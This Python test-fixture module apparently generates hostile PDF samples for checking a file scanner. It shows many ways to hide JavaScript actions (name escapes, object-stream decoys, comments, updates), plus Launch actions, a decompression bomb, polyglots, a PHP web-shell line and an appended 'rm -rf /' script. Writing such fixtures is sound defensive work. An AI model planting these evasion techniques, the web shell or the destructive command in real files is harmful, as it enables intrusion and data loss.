"""Hostile PDF files: scripts, actions, attachments, encryption, and the ways to hide them."""

import zlib

from tests.hostile import archive_files
from tests.hostile.hostile_file import HostileFile
from tests.hostile.pdf_writer import HEADER, modern, object_stream, pdf, stream, written

ALERT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
_EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _page(entries: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>" % entries


def _annotation(entries: bytes) -> bytes:
    return pdf({3: _page(b"/Annots [<< /Type /Annot /Rect [0 0 9 9] %s >>]" % entries)})


def _link(uri: bytes) -> bytes:
    return _annotation(b"/Subtype /Link /A << /S /URI /URI %s >>" % uri)


def _hidden_in_a_stream() -> bytes:
    return pdf({6: stream(b"x\n7 0 obj\n%s\nendobj\n" % ALERT)}, root=b"/OpenAction 7 0 R")


def _in_object_stream(**changes: bytes) -> bytes:
    return pdf({6: object_stream([(7, ALERT)], **changes)}, root=b"/OpenAction 7 0 R")


def _plain_object_stream(*objects: bytes) -> bytes:
    places = [sum(len(text) + 1 for text in objects[:n]) for n in range(len(objects))]
    head = b" ".join(b"%d %d" % (7 + n, place) for n, place in enumerate(places)) + b" "
    entries = b"/Type /ObjStm /N %d /First %d" % (len(objects), len(head))
    return pdf({6: stream(head + b" ".join(objects), entries)}, root=b"/OpenAction %d 0 R" % (6 + len(objects)))


def _decoy(entries: bytes) -> bytes:
    return _in_object_stream(entries=entries + b"/Type /ObjStm")


def _header(numbers: bytes) -> bytes:
    return HEADER + numbers + b"<< /Pages 2 0 R /OpenAction %s >>\nendobj\n%%%%EOF\n" % ALERT


def _twice_compressed() -> bytes:
    data = zlib.compress(zlib.compress(b"7 0 " + ALERT))
    return pdf({6: stream(data, b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]")})


def _bomb() -> bytes:
    data = zlib.compress(b"7 0 << /A#41 1 >>" + bytes(40_000_000), 9)
    return pdf({6: stream(data, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")})


def _swarm() -> bytes:
    data = zlib.compress(b"7 0 " + b"/A#41" * 4_000_000, 9)
    return pdf({n: stream(data, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") for n in range(6, 30)})


_REFERRING = b"/Annots [<< /Type /Annot /Rect [0 0 9 9] /Subtype /Link /A << /S /URI /URI 6 0 R >> >>]"
_CONTENTS = {
    "a script at opening": pdf(root=b"/OpenAction " + ALERT),
    "a script by reference": pdf({6: ALERT}, root=b"/OpenAction 6 0 R"),
    "a script among the names": pdf(root=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"),
    "a script of a page": pdf({3: _page(b"/AA << /O " + ALERT + b" >>")}),
    "a script of a field": _annotation(b"/Subtype /Widget /FT /Tx /T (a) /AA << /K " + ALERT + b" >>"),
    "a script with escapes in its names": pdf(root=b"/OpenAction << /S /J#61va#53cript /J#53 (a) >>"),
    "a script all in escapes": pdf(root=b"/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /#4a#53 (a) >>"),
    "a script without spaces": pdf(root=b"/OpenAction<</S/JavaScript/JS(a)>>"),
    "a script between comments": pdf(root=b"/OpenAction << /S % >> endobj\n/JavaScript %\r/JS (a) >>"),
    "a script behind odd space": pdf(root=b"/OpenAction\x00<<\x0c/S\x00/JavaScript\r/JS\t<6100>>>"),
    "a script behind a string": pdf(root=b"/A (a \\) (b\\\\) c) /OpenAction " + ALERT),
    "a script behind an open string": pdf(root=b"/OpenAction " + ALERT + b" /A (open"),
    "a script behind a word like stream": pdf(root=b"/A << >> stream /OpenAction " + ALERT),
    "a script in an object stream": _in_object_stream(),
    "a script in an object stream of no type": _in_object_stream(entries=b"/Extends 9 0 R"),
    "a script in an escaped object stream": _in_object_stream(entries=b"/Type /Obj#53tm"),
    "a script in a modern file": modern((7, ALERT), root=b"/OpenAction 7 0 R"),
    "an object stream compressed twice": _twice_compressed(),
    "an object stream in another coding": pdf(
        {6: stream(b"3720", b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode")}
    ),
    "an object stream that is a bomb": _bomb(),
    "many object streams full of names": _swarm(),
    "a script in the data of a stream": _hidden_in_a_stream(),
    "a script in an older version": written(pdf({1: b"<< /Pages 2 0 R /OpenAction %s >>" % ALERT}), {6: b"<< >>"}),
    "a script in an update": written(pdf(), {1: b"<< /Pages 2 0 R /OpenAction %s >>" % ALERT}),
    "a script in the trailer": pdf(trailer=b"/Root << /Pages 2 0 R /OpenAction " + ALERT + b" >>"),
    "a file without a table": HEADER + b"1 0 obj<</Pages 2 0 R/OpenAction<</S/JavaScript/JS(a)>>>>",
    "an object stream whose comment says where it begins": _decoy(b"%/First 9000 \n"),
    "an object stream whose string says where it begins": _decoy(b"/X (/First 9000 ) "),
    "an object stream whose inner dictionary says where it begins": _decoy(b"/X << /First 9000 >> "),
    "an object stream that says twice where it begins": _decoy(b"/First 9000 "),
    "an object stream that says elsewhere where it begins": _decoy(b"/First 9 0 R "),
    "an object stream that says twice how many": _decoy(b"/N 0 "),
    "an object stream that says how many in an inner dictionary": _decoy(b"/X [<< /N 0 >>] "),
    "an object stream with an end in a string": _plain_object_stream(b"(endstream)", ALERT),
    "an object stream with an end and more in a string": _plain_object_stream(
        b"<< /A (endstream endobj 9 0 obj) /S /JavaScript /JS (a) >>"
    ),
    "an object stream whose objects begin in a comment": _plain_object_stream(b"<< /A 1 %", b"(\n/S /JS %)\n>>"),
    "a script behind a long comment in the head of its object": _header(b"1 %" + b"x" * 300 + b"\n0 obj"),
    "a script behind a long comment before its object": _header(b"1 0 %" + b"x" * 300 + b"\nobj"),
    "a script behind many comments": _header(b"1 0" + b"\n%x" * 300 + b"\nobj"),
    "a script behind many blanks": _header(b"1 0" + b" " * 300 + b"obj"),
    "a script behind many zeros": _header(b"1 " + b"0" * 300 + b" obj"),
    "a script behind an object in a comment": pdf(root=b"/A 1 % 9 0 obj (\n/OpenAction " + ALERT + b" %)\n"),
    "a script behind an object in a string": pdf(root=b"/A (9 0 obj % ) /OpenAction " + ALERT),
    "a script behind a stream in a string": pdf(root=b"/A (9 0 obj <<>>stream ) /OpenAction " + ALERT),
    "a script in what is no hexadecimal": pdf(root=b"/OpenAction << /A <)/S /JavaScript /JS (a)> >>"),
    "a script behind a stream in an array": pdf({6: b"[ << >> stream\n " + ALERT + b" ]"}, root=b"/OpenAction 6 0 R"),
    "a program to launch": pdf(root=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
    "a program behind a link": _annotation(b"/Subtype /Link /A << /S /Launch /F (calc.exe) >>"),
    "an embedded file": pdf({6: stream(b"MZ", b"/Type /EmbeddedFile")}),
    "an embedded file of no type": pdf({6: b"<< /Type /Filespec /F (a) /EF << /F 7 0 R >> >>", 7: stream(b"MZ")}),
    "an attached file": _annotation(b"/Subtype /FileAttachment /FS 6 0 R"),
    "a form that is sent": _annotation(b"/Subtype /Widget /A << /S /SubmitForm /F (http://example.org) >>"),
    "data that are imported": pdf(root=b"/OpenAction << /S /ImportData /F (a.fdf) >>"),
    "a way into another file": pdf(root=b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>"),
    "a way to a foreign share": pdf(root=b"/OpenAction << /S /GoToR /F (\\\\\\\\198.51.100.1\\\\a) /D [0 /Fit] >>"),
    "a rendition": pdf(root=b"/OpenAction << /S /Rendition /OP 0 >>"),
    "rich media": _annotation(b"/Subtype /RichMedia"),
    "a 3D model": _annotation(b"/Subtype /3D /3DD 6 0 R"),
    "a film": _annotation(b"/Subtype /Movie /Movie << /F (a.avi) >>"),
    "a sound": _annotation(b"/Subtype /Sound /Sound 6 0 R"),
    "an XFA form": pdf(root=b"/AcroForm << /Fields [] /XFA 6 0 R >>"),
    "an encrypted file": pdf({6: b"<< /Filter /Standard /V 4 /R 4 >>"}, trailer=b"/Encrypt 6 0 R /ID [<00><00>]"),
    "a link that is a script": _link(b"(javascript:alert\\(1\\))"),
    "a link that is a script with parentheses": _link(b"(javascript:alert(1))"),
    "a link that is a script elsewhere": pdf({3: _page(_REFERRING), 6: b"(javascript:alert(1))"}),
    "a link that is a script in an object stream": pdf(
        {3: _page(_REFERRING), 8: object_stream([(6, b"<6A6176617363726970743A61>")])}
    ),
    "links from a base that is a script": pdf(root=b"/URI << /Base (javascript:a\\() >>"),
    "a link that is a script in hexadecimal": _link(b"<" + b"javascript:a()".hex().encode() + b">"),
    "a link that is a script in octal": _link(b"( \\152ava\\\nscript:a)"),
    "a link that is a page": _link(b"(data:text/html,<b>)"),
    "an archive behind the PDF": pdf() + archive_files.archive(),
    "an archive in a comment of the PDF": pdf(head=b"%" + archive_files.archive() + b"\n"),
    "a page at the head of the PDF": pdf(head=b"%<html><body onload=a()>\n"),
    "a page behind the PDF": pdf() + b"<script>alert(1)</script>",
    "a program behind the PDF": pdf() + archive_files.program(),
    "a script of a server behind the PDF": pdf() + b"\n<?php system($_GET['a']); ?>",
    "a shell script behind the PDF": pdf() + b"\n#!/bin/sh\nrm -rf /\n",
    "the test file of anti-virus software in a PDF": pdf({6: stream(_EICAR)}),
    "a DICOM file that is a PDF": pdf(head=b"%" + b" " * 112 + b"DICM\x02\x00\n"),
}

PDF_FILES = tuple(HostileFile(name, "application/pdf", content) for name, content in _CONTENTS.items())
